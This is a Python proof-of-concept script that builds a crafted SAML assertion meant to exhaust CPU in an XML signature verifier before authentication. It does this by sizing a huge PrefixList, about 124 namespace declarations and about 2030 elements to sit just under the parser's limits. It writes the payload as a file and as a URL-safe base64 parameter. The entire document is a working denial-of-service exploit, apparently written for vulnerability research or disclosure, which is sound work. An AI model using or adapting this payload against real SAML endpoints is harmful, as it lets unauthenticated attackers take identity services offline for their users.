# Pre-auth CPU DoS: huge InclusiveNamespaces/@PrefixList x ~124 in-scope prefixes x ~2000 elements
# inside SignedInfo. Everything here passes Limits::default() and every structural check in
# verify_enveloped up to c14n::canonicalize(signed_info) (xmldsig.rs:204), which runs before any key.
import base64, itertools
pfx = [a+b for a in "abcdefghijklmnopqrstuvwxy" for b in "abcdefghijklmnopqrstuvwxy"]
it = iter(pfx)
def decls(n): return "".join(f' xmlns:{next(it)}="u"' for _ in range(n))
prefixlist = " ".join(["zz"] * 5400)            # 16,199 bytes < max_text_bytes (16 KiB)
kids = "<x/>" * 2030                            # element limit is 2048
ID = "_dos1"
xml = (f'<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="{ID}" Version="2.0" IssueInstant="2027-01-15T07:59:50Z"{decls(28)}>'
 f'<saml:Issuer>https://saml-idp.example.com</saml:Issuer>'
 f'<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"{decls(31)}>'
 f'<ds:SignedInfo{decls(32)}>'
 f'<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"{decls(31)}>'
 f'<ec:InclusiveNamespaces xmlns:ec="http://www.w3.org/2001/10/xml-exc-c14n#" PrefixList="{prefixlist}">{kids}</ec:InclusiveNamespaces>'
 f'</ds:CanonicalizationMethod>'
 f'<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
 f'<ds:Reference URI="#{ID}"><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>'
 f'<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>'
 f'<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>{base64.b64encode(bytes(32)).decode()}</ds:DigestValue></ds:Reference>'
 f'</ds:SignedInfo><ds:SignatureValue>{base64.b64encode(bytes(256)).decode()}</ds:SignatureValue></ds:Signature>'
 f'</saml:Assertion>')
open("dos_prefixlist.xml","w").write(xml)
open("dos_prefixlist.param","w").write(base64.urlsafe_b64encode(xml.encode()).decode().rstrip("="))
from lxml import etree
t = etree.fromstring(xml.encode())
nels = sum(1 for _ in t.iter())
ndecl = xml.count("xmlns")
print("bytes", len(xml.encode()), "(limit 65536)  elements", nels, "(limit 2048)  ns decls", ndecl, "(limit 128)")
print("max attrs on one element", max(len(e.attrib)+len(e.nsmap) for e in t.iter()), "(approx; limit 32 incl. decls)")
scope = ndecl
print("exclusive-c14n inner-loop compares in SignedInfo c14n ~", 5400*scope*2030, "(PrefixList x scope x elements)")
